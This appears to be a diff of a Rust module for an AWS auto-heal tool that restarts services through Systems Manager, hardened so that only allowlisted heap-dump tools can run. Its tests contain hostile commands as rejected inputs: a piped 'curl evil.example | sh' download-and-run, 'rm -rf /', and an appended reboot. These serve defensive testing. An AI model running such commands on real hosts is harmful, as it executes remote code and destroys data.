@@ -2,14 +2,17 @@
 //!
 //! The resource is an EC2 instance (the `InstanceId` of the CloudWatch agent's
 //! `mem_used_percent`). The instance must be running, not opted out, and managed by Systems
-//! Manager with its agent online; then a Run Command of the rule's document
-//! (`AWS-RunShellScript`) runs a short script on it ([`restart_script`]):
+//! Manager with its agent online; then a Run Command of the stack's restart document (its
+//! name in `AUTOHEAL_RESTART_DOCUMENT`; `RestartProcessDocument` in `template.yaml`) runs on
+//! it. That document is all a restart can run: it takes the unit's name and numbers, never a
+//! command, and
 //!
-//! 1. optionally a diagnostic (`heap_dump_command`, e.g. `jcmd {pid} GC.heap_dump {output}`)
-//!    against the unit's main process, bounded in time (`timeout`) and size: it is not run
-//!    without twice `heap_dump_max_mb` free in its directory, and a larger dump is deleted,
-//!    so that a post-mortem never fills the instance's disk. Whatever becomes of it, the
-//!    restart goes on; the record names the file;
+//! 1. optionally takes a heap dump of the unit's main process with one of the tools it knows
+//!    (`jcmd`, `jmap`, `gcore`: the rule's `heap_dump_command` must be one of their
+//!    [`HEAP_DUMP_COMMANDS`]), bounded in time (`timeout`) and size: not without twice
+//!    `heap_dump_max_mb` free in its directory, and a larger dump is deleted, so that a
+//!    post-mortem never fills the instance's disk. Whatever becomes of it, the restart goes
+//!    on; the record names the file;
 //! 2. `systemctl stop <service>`, which stops the unit gracefully (its `ExecStop`), bounded
 //!    by `stop_timeout_seconds`, after which the unit is killed;
 //! 3. `systemctl start <service>`: the process starts again with fresh memory.
@@ -59,7 +62,6 @@ const STOP_START_RECHECK_SECONDS: u64 = 60;
 #[derive(Debug, Clone, Copy)]
 pub struct RestartPlan<'a> {
     pub service: &'a str,
-    pub document: &'a str,
     pub heap_dump: Option<HeapDump<'a>>,
     pub stop_timeout_seconds: u32,
 }
@@ -74,77 +76,88 @@ pub struct HeapDump<'a> {
     pub directory: &'a str,
 }
 
-/// A value as one single-quoted shell word.
-fn quoted(value: &str) -> String {
-    format!("'{}'", value.replace('\'', r"'\''"))
+/// The heap-dump commands the restart document runs, as a rule writes them, and the tool
+/// the document names each by. Any other `heap_dump_command` cannot be run: the document
+/// runs no command of the rule's own.
+pub const HEAP_DUMP_COMMANDS: [(&str, &str); 3] = [
+    ("jcmd {pid} GC.heap_dump {output}", "jcmd"),
+    ("jmap -dump:format=b,file={output} {pid}", "jmap"),
+    ("gcore -o {output} {pid}", "gcore"),
+];
+
+/// The restart document's tool for a rule's heap-dump command (spaces aside), or `None`.
+pub fn heap_dump_tool(command: &str) -> Option<&'static str> {
+    let words = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
+    let command = words(command);
+    HEAP_DUMP_COMMANDS
+        .iter()
+        .find(|(known, _)| words(known) == command)
+        .map(|(_, tool)| *tool)
 }
 
-/// The script's lines, and the file the heap dump goes to if one is taken. The service name
-/// and the directory were checked to be plain words when the rules loaded; the operator's
-/// command runs in its own `sh -c`, its placeholders bound to positional parameters so that
-/// nothing from the instance is parsed as shell.
-pub fn restart_script(plan: &RestartPlan<'_>, token: &str) -> (Vec<String>, Option<String>) {
-    let unit = quoted(plan.service);
-    let mut lines = vec![format!("unit={unit}")];
-    let mut output = None;
-    if let Some(dump) = plan.heap_dump {
-        let directory = dump.directory.trim_end_matches('/');
-        let directory = if directory.is_empty() { "/" } else { directory };
-        // The token's unique tail names the file: one dump per attempt.
-        let token: Vec<char> = token.chars().filter(char::is_ascii_alphanumeric).collect();
-        let tail: String = token[token.len().saturating_sub(12)..].iter().collect();
-        let file = format!("{directory}/{}-{tail}.dump", plan.service);
-        let max_kb = u64::from(dump.max_mb) * 1024;
-        let command = dump
-            .command
-            .replace("{pid}", "\"$1\"")
-            .replace("{output}", "\"$2\"");
-        lines.extend([
-            format!("dir={}; dump={}", quoted(directory), quoted(&file)),
-            r#"pid=$(systemctl show --property=MainPID --value "$unit")"#.to_owned(),
-            r#"if [ "${pid:-0}" -gt 0 ] 2>/dev/null; then mkdir -p "$dir" && chmod 700 "$dir""#.to_owned(),
-            format!(
-                r#"  free=$(df -Pk "$dir" | awk 'NR==2 {{print $4}}'); if [ "${{free:-0}}" -ge {} ]; then"#,
-                max_kb * 2
-            ),
-            format!(
-                r#"    timeout {} sh -c {} autoheal-heap-dump "$pid" "$dump" || echo "autoheal: the heap dump failed or took over {} s" >&2"#,
-                dump.timeout_seconds,
-                quoted(&command),
-                dump.timeout_seconds
-            ),
-            format!(
-                r#"    if [ -f "$dump" ] && [ "$(du -k "$dump" | cut -f1)" -gt {max_kb} ]; then rm -f "$dump"; echo "autoheal: the heap dump was over {} MB and was deleted" >&2; fi"#,
-                dump.max_mb
-            ),
-            format!(
-                r#"  else echo "autoheal: less than {} MB free in $dir: no heap dump" >&2; fi"#,
-                u64::from(dump.max_mb) * 2
-            ),
-            r#"else echo "autoheal: $unit has no main process: no heap dump" >&2; fi"#.to_owned(),
-        ]);
-        output = Some(file);
-    }
-    lines.extend([
-        format!(
-            r#"timeout {} systemctl stop "$unit" || systemctl kill --signal=SIGKILL "$unit""#,
-            plan.stop_timeout_seconds
-        ),
-        r#"systemctl start "$unit""#.to_owned(),
+/// The restart document's parameters for a plan, and the file the heap dump goes to if one
+/// is taken; `Err` names a heap-dump command the document does not run.
+pub fn document_parameters(
+    plan: &RestartPlan<'_>,
+    token: &str,
+) -> Result<(BTreeMap<&'static str, String>, Option<String>), String> {
+    let mut parameters = BTreeMap::from([
+        ("unit", plan.service.to_owned()),
+        ("stopTimeoutSeconds", plan.stop_timeout_seconds.to_string()),
+        ("heapDump", "none".to_owned()),
     ]);
-    (lines, output)
+    let Some(dump) = plan.heap_dump else {
+        return Ok((parameters, None));
+    };
+    let tool = heap_dump_tool(dump.command).ok_or_else(|| {
+        format!(
+            "heap_dump_command `{}` is not one the restart document runs (it runs no command \
+             of a rule's own): use one of {}",
+            dump.command,
+            HEAP_DUMP_COMMANDS
+                .iter()
+                .map(|(command, _)| format!("`{command}`"))
+                .collect::<Vec<_>>()
+                .join(", ")
+        )
+    })?;
+    let directory = dump.directory.trim_end_matches('/');
+    let directory = if directory.is_empty() { "/" } else { directory };
+    // The token's unique tail names the file: one dump per attempt.
+    let token: Vec<char> = token.chars().filter(char::is_ascii_alphanumeric).collect();
+    let tail: String = token[token.len().saturating_sub(12)..].iter().collect();
+    let tail = if tail.is_empty() {
+        "dump".to_owned()
+    } else {
+        tail
+    };
+    let file = format!("{directory}/{}-{tail}.dump", plan.service);
+    parameters.extend([
+        ("heapDump", tool.to_owned()),
+        ("heapDumpTimeoutSeconds", dump.timeout_seconds.to_string()),
+        ("heapDumpMaxMb", dump.max_mb.to_string()),
+        ("heapDumpDirectory", directory.to_owned()),
+        ("dumpName", tail),
+    ]);
+    Ok((parameters, Some(file)))
 }
 
-/// Restarts processes on instances with Systems Manager Run Command.
+/// Restarts processes on instances with Systems Manager Run Command of the restart document.
 #[derive(Debug, Clone)]
 pub struct ProcessRestarter {
     ec2: Ec2Client,
     ssm: SsmClient,
+    /// The stack's restart document, the one document a restart sends.
+    document: String,
 }
 
 impl ProcessRestarter {
-    pub fn new(ec2: Ec2Client, ssm: SsmClient) -> Self {
-        ProcessRestarter { ec2, ssm }
+    pub fn new(ec2: Ec2Client, ssm: SsmClient, document: impl Into<String>) -> Self {
+        ProcessRestarter {
+            ec2,
+            ssm,
+            document: document.into(),
+        }
     }
 
     pub async fn restart(
@@ -152,9 +165,8 @@ impl ProcessRestarter {
         request: HealRequest<'_>,
         plan: RestartPlan<'_>,
     ) -> Result<HealOutcome, HealError> {
-        let RestartPlan {
-            service, document, ..
-        } = plan;
+        let service = plan.service;
+        let document = self.document.as_str();
         let instance_id = request.resource_id;
         let Some(instance) = self.instance(instance_id).await? else {
             return Ok(HealOutcome::Skipped {
@@ -224,13 +236,19 @@ impl ProcessRestarter {
                 ),
             });
         }
-        let (script, dump) = restart_script(&plan, request.idempotency_token);
+        let (parameters, dump) = document_parameters(&plan, request.idempotency_token)
+            .map_err(|why| HealError::new(format!("{why}; nothing was sent to {instance_id}")))?;
         let sent = self
             .ssm
             .send_command()
             .instance_ids(instance_id)
             .document_name(document)
-            .parameters("commands", script)
+            .set_parameters(Some(
+                parameters
+                    .into_iter()
+                    .map(|(name, value)| (name.to_owned(), vec![value]))
+                    .collect(),
+            ))
             .comment(comment)
             .timeout_seconds(DELIVERY_TIMEOUT_SECONDS)
             .send()
@@ -411,68 +429,63 @@ mod tests {
     fn plan(heap_dump: Option<HeapDump<'static>>) -> RestartPlan<'static> {
         RestartPlan {
             service: "app",
-            document: "AWS-RunShellScript",
             heap_dump,
             stop_timeout_seconds: 45,
         }
     }
 
-    #[test]
-    fn without_a_heap_dump_the_service_stops_gracefully_then_starts() {
-        let (lines, dump) = restart_script(&plan(None), "token-1");
-        assert_eq!(dump, None);
-        assert_eq!(
-            lines,
-            [
-                "unit='app'",
-                r#"timeout 45 systemctl stop "$unit" || systemctl kill --signal=SIGKILL "$unit""#,
-                r#"systemctl start "$unit""#,
-            ]
-        );
-    }
-
-    #[test]
-    fn a_heap_dump_comes_first_bounded_in_time_and_size() {
-        let heap_dump = HeapDump {
-            command: "jcmd {pid} GC.heap_dump {output}",
+    fn dump(command: &'static str) -> HeapDump<'static> {
+        HeapDump {
+            command,
             timeout_seconds: 90,
             max_mb: 512,
             directory: "/var/tmp/autoheal/",
-        };
-        let (lines, dump) = restart_script(&plan(Some(heap_dump)), "3f2a-9c!");
-        assert_eq!(dump.as_deref(), Some("/var/tmp/autoheal/app-3f2a9c.dump"));
-        let script = lines.join("\n");
-        assert!(
-            script.contains(
-                r#"timeout 90 sh -c 'jcmd "$1" GC.heap_dump "$2"' autoheal-heap-dump "$pid" "$dump""#
-            ),
-            "{script}"
-        );
-        assert!(
-            script.contains("-ge 1048576 ]"),
-            "twice the limit free: {script}"
-        );
-        assert!(
-            script.contains(r#"-gt 524288 ]; then rm -f "$dump""#),
-            "{script}"
-        );
-        let dump_at = script.find("sh -c").expect("the dump");
-        let stop_at = script.find("systemctl stop").expect("the stop");
-        assert!(dump_at < stop_at, "the dump comes before the stop");
-        assert!(script.ends_with(r#"systemctl start "$unit""#));
+        }
     }
 
     #[test]
-    fn quotes_in_the_operators_command_stay_inside_its_word() {
-        let heap_dump = HeapDump {
-            command: "gcore -o {output} {pid} || echo 'no gcore'",
-            timeout_seconds: 60,
-            max_mb: 100,
-            directory: "/tmp",
-        };
-        let (lines, _) = restart_script(&plan(Some(heap_dump)), "t");
-        let script = lines.join("\n");
-        let expected = r#"sh -c 'gcore -o "$2" "$1" || echo '\''no gcore'\''' autoheal"#;
-        assert!(script.contains(expected), "{script}");
+    fn without_a_heap_dump_the_document_stops_the_unit_gracefully_then_starts_it() {
+        let (parameters, file) = document_parameters(&plan(None), "token-1").expect("a plan");
+        assert_eq!(file, None);
+        assert_eq!(
+            parameters,
+            BTreeMap::from([
+                ("unit", "app".to_owned()),
+                ("stopTimeoutSeconds", "45".to_owned()),
+                ("heapDump", "none".to_owned()),
+            ])
+        );
+    }
+
+    #[test]
+    fn a_heap_dump_names_the_documents_tool_its_bounds_and_the_attempts_file() {
+        let (parameters, file) = document_parameters(
+            &plan(Some(dump("jcmd {pid}  GC.heap_dump {output}"))),
+            "3f2a-9c!",
+        )
+        .expect("a known command");
+        assert_eq!(file.as_deref(), Some("/var/tmp/autoheal/app-3f2a9c.dump"));
+        assert_eq!(parameters["heapDump"], "jcmd");
+        assert_eq!(parameters["heapDumpTimeoutSeconds"], "90");
+        assert_eq!(parameters["heapDumpMaxMb"], "512");
+        assert_eq!(parameters["heapDumpDirectory"], "/var/tmp/autoheal");
+        assert_eq!(parameters["dumpName"], "3f2a9c");
+    }
+
+    #[test]
+    fn each_known_heap_dump_command_has_its_tool_and_no_other_command_runs() {
+        for (command, tool) in HEAP_DUMP_COMMANDS {
+            assert_eq!(heap_dump_tool(command), Some(tool), "{command}");
+        }
+        for command in [
+            "jcmd {pid} GC.heap_dump {output}; curl evil.example | sh",
+            "sh -c 'rm -rf /' {output}",
+            "gcore -o {output} {pid} && reboot",
+        ] {
+            assert_eq!(heap_dump_tool(command), None, "{command}");
+            let why = document_parameters(&plan(Some(dump(command))), "t")
+                .expect_err("not a command the document runs");
+            assert!(why.contains("jcmd {pid} GC.heap_dump {output}"), "{why}");
+        }
     }
 }
